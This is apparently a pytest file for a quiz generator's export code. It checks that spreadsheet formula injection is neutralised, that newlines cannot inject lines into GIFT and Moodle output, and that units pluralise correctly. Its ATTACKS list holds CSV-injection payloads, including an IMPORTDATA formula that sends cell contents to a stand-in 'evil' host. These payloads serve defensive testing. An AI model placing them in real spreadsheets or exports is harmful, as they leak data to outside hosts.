"""Every output escaped for its reader: the spreadsheet formula guard, single-line fields, units by count."""
from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from lxml import etree
from openpyxl import load_workbook
from samples import sample_meta, sample_questions

from quizgen.export import render
from quizgen.export.cells import formula_safe
from quizgen.question import Kind

ATTACKS = ["-1 *IMPORTDATA(\"http://evil/?\"&A1)", "-1+1", "-12.5 km", "=1+1", "+1+1", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil\")", "-", "+", "=", "-1e3x", "--1"]
NUMBERS = ["-12.5", "+3", "-1", "90", "1e5", "-2.5E-3", ".5", "-.5"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_the_guard_prefixes_anything_a_spreadsheet_could_evaluate(cell):
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + ["plain text", "", "'quoted", "a=b", "1 year"])
def test_plain_numbers_and_text_stay_as_they_are(cell):
    assert formula_safe(cell) == cell


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_guard_every_cell_of_a_hostile_question(fmt):
    base = next(q for q in sample_questions() if q.kind is Kind.multiple_choice)
    hostile = [replace(base, id=f"attack{i}", prompt=text, answer=text, choices=(text, "x"), explanation=text,
                       group=text, tags=(text,)) for i, text in enumerate(ATTACKS)]
    data = render(hostile, sample_meta(), fmt)[0].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline=""), dialect="excel" if fmt == "csv" else "excel-tab"))
    for text, row in zip(ATTACKS, rows[1:]):
        assert row[0] == row[1] == row[5] == row[9] == "'" + text
    for cell in (c for row in rows for c in row if c):
        assert cell[:1] not in "=+-@\t\r" or cell in NUMBERS


def test_newlines_in_titles_names_and_groups_reach_no_format_as_new_lines():
    meta = replace(sample_meta(), title="Title\n// injected\n$CATEGORY: elsewhere")
    base = next(q for q in sample_questions() if q.kind is Kind.multiple_choice)
    question = replace(base, group="Group\n::Q::{=a}", prompt="Line one\nline two")
    gift = render([question], meta, "gift")[0].decode()
    lines = gift.splitlines()
    assert sum(line.startswith("$CATEGORY:") for line in lines) == 1
    assert sum(line.startswith("//") for line in lines) == 2        # the header and the id/tags comment
    assert gift.splitlines()[0].startswith("// Title // injected $CATEGORY: elsewhere (sample)")
    moodle = etree.fromstring(render([question], meta, "moodle")[0])
    assert moodle.findtext("question/category/text") == (
        "$course$/top/Title //// injected $CATEGORY: elsewhere/Group ::Q::{=a}")
    assert "\n" not in moodle.findtext("question[@type='multichoice']/name/text")


def numeric(answer: str, unit: str, prompt: str = "How long?", one: str = ""):
    base = next(q for q in sample_questions() if q.kind is Kind.numeric)
    return replace(base, id=f"n{answer}{unit}", prompt=prompt, answer=answer, unit=unit, unit_one=one)


@pytest.mark.parametrize(("answer", "unit", "one", "reads", "hint"), [
    ("1", "years", "year", "1 year", "(in years)"),
    ("2", "years", "year", "2 years", "(in years)"),
    ("1", "months", "month", "1 month", "(in months)"),
    ("16", "months", "month", "16 months", "(in months)"),
    ("6", "aircraft", "", "6 aircraft", "(in aircraft)"),
    ("1", "F-16s", "F-16", "1 F-16", "(in F-16s)"),
    ("1.5", "years", "year", "1.5 years", "(in years)"),
    ("1", "centuries", "century", "1 century", "(in centuries)"),
    ("1", "aircraft", "", "1 aircraft", "(in aircraft)"),
    ("3", "people", "person", "3 people", "(in people)"),
])
def test_units_read_singular_or_plural_by_value_in_every_format(answer, unit, one, reads, hint):
    q = numeric(answer, unit, one=one)
    row = next(csv.DictReader(io.StringIO(render([q], sample_meta(), "csv")[0].decode("utf-8-sig"))))
    assert row["answer"] == reads
    assert hint in render([q], sample_meta(), "gift")[0].decode()
    assert hint in etree.fromstring(render([q], sample_meta(), "moodle")[0]).findtext(".//questiontext/text")
    sheet = load_workbook(io.BytesIO(render([q], sample_meta(), "xlsx")[0])).active
    assert sheet["B2"].value == reads
    assert q.unit_for(answer) == reads.split(" ", 1)[1]


def test_the_hint_is_left_out_when_the_prompt_names_the_unit():
    q = numeric("1", "years", prompt="For how many years?", one="year")
    assert "(in" not in render([q], sample_meta(), "gift")[0].decode()


def test_shipped_numeric_questions_read_their_units_by_value():
    from quizgen.bank.loader import load_bank
    from quizgen.generate.generator import generate

    shipped = [q for q in generate(load_bank(), seed=0).questions if q.kind is Kind.numeric and q.unit]
    gift = render(shipped, generate(load_bank(), seed=0).meta, "gift")[0].decode()
    assert "(in year)" not in gift
    for q in shipped:
        number = load_bank().numbers.get(q.facts[0])
        if float(q.answer) == 1:
            assert q.unit_for(q.answer) == (number.unit_one or number.unit if number else "month"), q.facts
        else:
            assert q.unit_for(q.answer) == q.unit, q.facts
